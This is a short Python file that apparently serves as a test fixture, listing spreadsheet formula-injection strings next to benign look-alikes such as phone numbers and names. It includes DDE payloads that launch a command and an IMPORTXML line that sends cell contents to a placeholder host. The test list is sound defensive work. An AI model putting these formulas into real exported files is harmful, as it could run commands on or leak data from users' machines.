"""Texts that a spreadsheet would run as formulas, as attackers write them and as they happen."""

PAYLOADS = [
    "=1+1", "=cmd|'/C calc'!A0", "+1+1", "-1+1", "@SUM(1,1)", "=HYPERLINK(\"http://x\",\"a\")", "\t=1+1", "\r=1+1",
    "\n=1+1", " =1+1", "\u00a0=1+1", "=IMPORTXML(CONCAT(\"http://x\",A1),\"//a\")", "+84 912 345 678", "-Nguyễn Văn A",
    "@nguyen", "=-1", "--1", "+-1", "=\"=\"", "＝1+1", "＋1", "－1", "＠x", "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=WEBSERVICE(\"http://x\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1;=2", "=A1",
]  # fmt: skip
